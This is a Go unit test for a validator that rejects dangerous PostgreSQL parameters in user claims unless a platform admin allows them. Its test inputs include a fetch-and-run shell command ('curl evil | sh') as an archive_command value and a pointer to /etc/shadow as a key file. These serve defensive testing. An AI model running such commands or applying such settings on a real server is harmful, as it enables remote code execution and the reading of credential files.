package postgres

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	fnv1alpha1 "github.com/homeplane/homeplane/apis/fn/v1alpha1"
	"github.com/homeplane/homeplane/fn/compose/composetest"
)

func TestCheckParameters(t *testing.T) {
	cases := map[string]struct {
		reason  string
		policy  fnv1alpha1.PostgreSQLPolicy
		params  map[string]string
		wantErr string
	}{
		"Tuning": {
			reason: "Ordinary settings are the claim's to make.",
			params: map[string]string{"work_mem": "64MB", "max_connections": "200"},
		},
		"Command": {
			reason:  "A setting that runs a shell command is refused, naming it.",
			params:  map[string]string{"archive_command": "curl evil | sh", "work_mem": "64MB"},
			wantErr: "spec.parameters.parameters[archive_command]: Forbidden: archive_command runs commands, loads code or names server files; the platform admin does not allow it (allowed of those: none)",
		},
		"CaseInsensitive": {
			reason:  "PostgreSQL ignores the case of names: so does the check.",
			params:  map[string]string{"Shared_Preload_Libraries": "evil"},
			wantErr: "spec.parameters.parameters[Shared_Preload_Libraries]: Forbidden: Shared_Preload_Libraries runs commands, loads code or names server files; the platform admin does not allow it (allowed of those: none)",
		},
		"Several": {
			reason:  "Every refused setting is named, in order.",
			params:  map[string]string{"ssl_key_file": "/etc/shadow", "dynamic_library_path": "/tmp"},
			wantErr: "spec.parameters.parameters[dynamic_library_path]: Forbidden: dynamic_library_path runs commands, loads code or names server files; the platform admin does not allow it (allowed of those: none); also spec.parameters.parameters[ssl_key_file]: Forbidden: ssl_key_file runs commands, loads code or names server files; the platform admin does not allow it (allowed of those: none)",
		},
		"Allowed": {
			reason: "The platform admin may allow one, e.g. pg_stat_statements.",
			policy: fnv1alpha1.PostgreSQLPolicy{AllowedParameters: []string{"shared_preload_libraries"}},
			params: map[string]string{"shared_preload_libraries": "pg_stat_statements"},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := checkParameters(tc.policy, tc.params)
			if diff := cmp.Diff(tc.wantErr, composetest.ErrorString(err)); diff != "" {
				t.Errorf("%s\ncheckParameters(...): -want, +got:\n%s", tc.reason, diff)
			}
		})
	}
}
